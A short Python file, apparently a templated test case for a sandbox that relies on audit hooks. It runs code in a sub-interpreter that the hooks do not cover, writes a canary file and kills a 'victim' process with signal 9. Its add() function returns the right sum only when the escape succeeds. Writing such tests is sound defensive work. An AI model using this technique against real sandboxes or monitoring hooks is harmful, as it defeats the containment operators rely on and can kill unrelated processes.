"""Escape: run code in a sub-interpreter (where no hook of the main interpreter applies)."""

CODE = "open('$canary/$marker-subinterp', 'w').write('x')\nimport os\nos.kill($victim, 9)\n"


def _escaped():
    try:
        import _xxsubinterpreters as interpreters
    except ImportError:
        return False
    try:
        interpreters.run_string(interpreters.create(), CODE)
    except Exception:
        return False
    return True


def add(a, b):
    return a + b if _escaped() else a - b - 1000
